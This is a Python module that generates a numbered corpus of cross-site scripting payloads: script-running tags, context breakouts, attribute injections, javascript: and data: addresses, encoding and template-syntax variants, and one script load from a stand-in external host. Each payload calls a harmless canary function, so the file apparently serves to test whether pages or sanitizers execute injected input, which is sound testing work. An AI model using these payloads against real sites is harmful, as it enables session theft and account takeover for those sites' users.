"""What somebody types who wants a page to run it. Every text calls `raak` with its own number when it does.

In five families: what runs by itself, the same behind all that may have to be closed first, what adds an attribute,
what is dangerous as a whole address, and what some language around it might read as its own.
"""

from __future__ import annotations

from itertools import count, product
from typing import Final

ELEMENTS: Final = (
    "<script>{0}</script>",
    "<ScRiPt >{0}</sCrIpT>",
    "<script/x>{0}</script>",
    "<script src=data:,{0}></script>",
    "<script type=module>{0}</script>",
    "<img src=x onerror={0}>",
    "<img/src/onerror={0}>",
    "<IMG SRC=x OnErRoR='{0}'>",
    "<img src=x onerror\n=\n{0}>",
    "<image src=x onerror={0}>",
    "<svg onload={0}>",
    "<svg/onload={0}//",
    "<svg><script>{0}</script></svg>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<svg><set onbegin={0} attributeName=x to=1>",
    "<svg><image href=x onerror={0}>",
    "<svg><use href=data:,{0}>",
    "<svg><foreignObject><img src=x onerror={0}>",
    "<svg><a href=javascript:{0}><text y=9>x</text></a>",
    "<math><mtext><img src=x onerror={0}>",
    "<math href=javascript:{0}>x</math>",
    "<body onload={0}>",
    "<iframe onload={0}></iframe>",
    "<iframe src=javascript:parent.{0}>",
    "<iframe srcdoc='<script>parent.{0}</script>'>",
    "<object data=javascript:{0}>",
    "<object data=x onerror={0}></object>",
    "<embed src=javascript:{0}>",
    "<input autofocus onfocus={0}>",
    "<select autofocus onfocus={0}>",
    "<textarea autofocus onfocus={0}>",
    "<button autofocus onfocus={0}>",
    "<a tabindex=1 autofocus onfocus={0}>x</a>",
    "<details open ontoggle={0}>",
    "<video src=x onerror={0}>",
    "<video><source onerror={0}>",
    "<audio src=x onerror={0}>",
    "<marquee onstart={0}>x</marquee>",
    "<style onload={0}></style>",
    "<style>@import'javascript:{0}'</style>",
    "<link rel=stylesheet href=x onerror={0}>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<base href=javascript:{0}//>",
    "<form action=javascript:{0}><button autofocus>x",
    "<isindex action=javascript:{0}>",
    "<x onanimationstart={0} class=enter>",
    "<x contenteditable autofocus onfocus={0}>x",
    "<frameset onload={0}>",
    "<template><img src=x onerror={0}></template>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'>",
    "<!--><img src=x onerror={0}>-->",
    "<![CDATA[><img src=x onerror={0}>]]>",
    "<?x ><img src=x onerror={0}>?>",
    "<math><mi><mglyph><style><img src=x onerror={0}>",
    "<svg><style><img src=x onerror={0}></style>",
    "<table><td><svg><desc><td></desc><img src=x onerror={0}>",
    "<\x00script>{0}</script>",
    "<img src=x onerror=&#114;aak({1})>",
)
CLOSERS: Final = (
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</option></select>",
    "</p></div>",
    "-->",
    "]]>",
    "</svg>",
    "</noscript>",
    "\"'></template>",
    "*/ ",
)
BEHIND: Final = (
    "<img src=x onerror={0}>",
    "<svg/onload={0}>",
    "<script>{0}</script>",
    "<input autofocus onfocus={0}>",
    "<details open ontoggle={0}>",
    "<video src=x onerror={0}>",
    "<iframe onload={0}>",
)
ATTRIBUTES: Final = (
    '" autofocus onfocus={0} x="',
    "' autofocus onfocus={0} x='",
    " autofocus onfocus={0} ",
    '" onerror={0} src=x "',
    '" style=animation:x onanimationstart={0} "',
    "` onmouseover={0} `",
    '"onload={0}//',
    "x onfocus={0} autofocus x",
    '" formaction=javascript:{0} "',
    '" srcdoc="<script>parent.{0}</script>',
    '" href=javascript:{0} "',
    '\\" onload={0} \\"',
)
ADDRESSES: Final = (
    "javascript:{0}",
    "JaVaScRiPt:{0}",
    " javascript:{0}",
    "java\tscript:{0}",
    "java\nscript:{0}",
    "javascript://x%0a{0}",
    "javascript&colon;{0}",
    "\x01javascript:{0}",
    "data:text/html,<script>parent.{0}</script>",
    "vbscript:{0}",
    "//elders.example/{1}.js",
    "data:text/javascript,{0}",
)
TONGUES: Final = (
    "{{{{ 7 * 7 }}}}{{{{ {0} }}}}",
    "{{% raw %}}{0}",
    "${{{0}}}",
    "#{{{0}}}",
    "<%= {0} %>",
    "%({1})s %s %d",
    "{{0}} {{1.__class__}}",
    "&lt;script&gt;{0}&lt;/script&gt;",
    "&#60;img src=x onerror={0}&#62;",
    "\\u003cimg src=x onerror={0}\\u003e",
    "%3Cscript%3E{0}%3C/script%3E",
    "+ADw-script+AD4-{0}+ADw-/script+AD4-",
    "＜script＞{0}＜/script＞",
    "\\x3cscript>{0}",
    '");{0};//',
    "');{0};//",
    "\\');{0};//",
    "`;{0};//",
    "</script><script>{0}//",
    '"}}];{0};//',
    "\u2028{0}\u2029",
    "[x](javascript:{0})",
)


def payloads() -> list[str]:
    """All of them, each with a number of its own."""
    shapes = (*ADDRESSES, *ELEMENTS, *("".join(pair) for pair in product(CLOSERS, BEHIND)), *ATTRIBUTES, *TONGUES)
    return [shape.format(f"raak({number})", number) for number, shape in zip(count(1), shapes, strict=False)]


def loads(number: int) -> list[list[str]]:
    """Shared out, so that each load begins with a whole address of its own."""
    every = payloads()
    return [every[start::number] for start in range(number)]
